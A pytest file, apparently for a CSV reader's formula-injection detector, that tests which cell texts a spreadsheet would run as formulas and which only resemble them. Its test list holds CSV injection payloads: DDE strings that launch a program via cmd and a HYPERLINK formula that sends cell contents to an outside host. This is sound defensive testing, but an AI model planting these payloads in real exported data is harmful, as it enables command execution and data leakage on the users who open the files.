"""Text that a spreadsheet would run as a formula, and text that only looks a little like it."""

from __future__ import annotations

from pathlib import Path

import pyarrow as pa
import pytest
from read_made import reading, told

from agored.findings import Severity
from agored.read.formulas import formulas_in, is_formula

FORMULAS = (
    '=HYPERLINK("http://example.wales/?"&A1,"Cliciwch")',
    "=1+1",
    "= A1",
    "==A1",
    " =1",
    "\t=1",
    "＝1+1",
    "@SUM(1+1)",
    "+SUM(A1:A2)",
    "-SUM(A1:A2)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+A1",
    "-A1+B2",
    "+1+1",
)
PLAIN = (
    "", "-", "--", "=", "= =", "-5", "-1,234.50", "-£5", "-10%", "-1.5e-3", "-5 (amcangyfrif)", "+4",
    "+44 20 7946 0000",
    "+44(0)20-7946", "+44-20-7946", "- dim", "-dim", "+/-", "@cyngor", "@ Caerdydd", "a=1", "1-2", "-40-50",
)  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_what_would_run_is_known(text: str) -> None:
    assert is_formula(text)
    assert formulas_in(pa.array(["x", text, ""])).tolist() == [1]


@pytest.mark.parametrize("text", PLAIN)
def test_what_would_not_is_left_alone(text: str) -> None:
    assert not is_formula(text)


def test_formulas_are_told_with_their_first_place(tmp_path: Path) -> None:
    text = "a,b\n1,=1+1\n=A1,-5\n2,+44 20 7946 0000\n"
    found = told(reading(tmp_path, "file.csv", text.encode()))["read.formula-text"]
    assert (found.severity, found.place, found.rows, found.count) == (Severity.ADVISORY, "B2", (2, 3), 2)
    assert found.total == 6
